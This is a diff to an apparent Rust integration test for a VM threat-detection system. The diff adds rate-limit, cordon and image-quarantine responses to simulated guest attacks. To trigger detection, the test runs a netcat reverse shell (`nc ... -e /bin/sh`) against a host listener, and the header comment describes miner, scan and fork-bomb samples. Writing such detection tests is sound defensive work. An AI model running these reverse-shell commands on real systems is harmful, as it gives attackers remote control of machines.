@@ -4,8 +4,9 @@
 //!
 //! - miner (default tenant: alert, isolate, snapshot, pause): a CPU-burning script named
 //!   `xmrig` connected to a pool-like port (3333) on a listener this test opens on the host;
-//! - port scan (tenant `scan`: alert, isolate): a connect scan of the host's ports; the VM keeps
-//!   running, cut off: the host cannot reach it and it cannot reach the host;
+//! - port scan (tenant `scan`: alert, rate-limit, isolate, cordon): a connect scan of the host's
+//!   ports; the VM keeps running, limited and cut off (the host cannot reach it, it cannot
+//!   reach the host), and its node is cordoned (the test uncordons it to go on);
 //! - fork bomb (tenant `acme`: alert, snapshot, replace), bounded by the guest's pid limit;
 //! - reverse shell (default critical: alert, isolate, snapshot, replace): `nc -e /bin/sh` to a
 //!   listener on the host.
@@ -31,10 +32,14 @@ const DEADLINE: Duration = Duration::from_secs(120);
 
 const PLAYBOOKS: &str = r#"
 [tenant.scan]
-high = ["alert", "isolate"]
+high = ["alert", "rate-limit", "isolate", "cordon"]
+rate_limit_mbit = 5
 
 [tenant.acme]
 high = ["alert", "snapshot", "replace"]
+
+[tenant.q]
+critical = ["alert", "quarantine-image"]
 "#;
 
 fn now_ms() -> u64 {
@@ -291,12 +296,18 @@ fn attacks_in_guests_are_detected_and_contained_and_benign_work_is_not() {
         actions(&t),
         [
             ("alert".into(), "done".into()),
-            ("isolate".into(), "done".into())
+            ("rate-limit".into(), "done".into()),
+            ("isolate".into(), "done".into()),
+            ("cordon".into(), "done".into())
         ],
         "{t}"
     );
     let v = c.vm(&scanner);
     assert_eq!(v["status"]["phase"], "running", "{v}");
+    assert_eq!(v["status"]["network"]["egress_mbit"], 5, "{v}");
+    let node = c.json(&["node", "ls"])[0].clone();
+    assert_eq!(node["cordoned"], true, "{node}");
+    assert!(c.cli(&["node", "uncordon", "n1"]).status.success());
     assert!(
         !reaches(&scan_web),
         "the host still reaches the isolated VM"
@@ -389,6 +400,38 @@ fn attacks_in_guests_are_detected_and_contained_and_benign_work_is_not() {
         text.contains("reverse-shell-stdio") && text.contains("replace"),
         "{text}"
     );
+
+    // Quarantine (tenant q): the image is refused for new VMs until an admin lifts it.
+    let q = run_vm(&c, "q", Some("q"), None, 128);
+    exec(
+        &c,
+        &q,
+        &format!("(setsid nc {gw} 9001 -e /bin/sh </dev/null >/dev/null 2>&1 &); true"),
+    );
+    let t = contained(&c, &q, "reverse-shell-stdio");
+    assert_eq!(
+        actions(&t),
+        [
+            ("alert".into(), "done".into()),
+            ("quarantine-image".into(), "done".into())
+        ],
+        "{t}"
+    );
+    let image = t["image"].as_str().unwrap().to_owned();
+    let out = c.cli(&["vm", "run", "--name", "after", "--image", &image]);
+    assert!(!out.status.success());
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("quarantined"), "{err}");
+    let images = c.json(&["threat", "images"]);
+    assert_eq!(images[0]["image"], image.as_str(), "{images}");
+    assert!(c.cli(&["threat", "release", &image]).status.success());
+    let out = c.cli(&["vm", "run", "--name", "after", "--image", &image]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(c.cli(&["vm", "rm", "after"]).status.success());
 
     // Benign: nothing above low for the idle, busy and web VMs over the whole run.
     stop.store(true, Ordering::Relaxed);
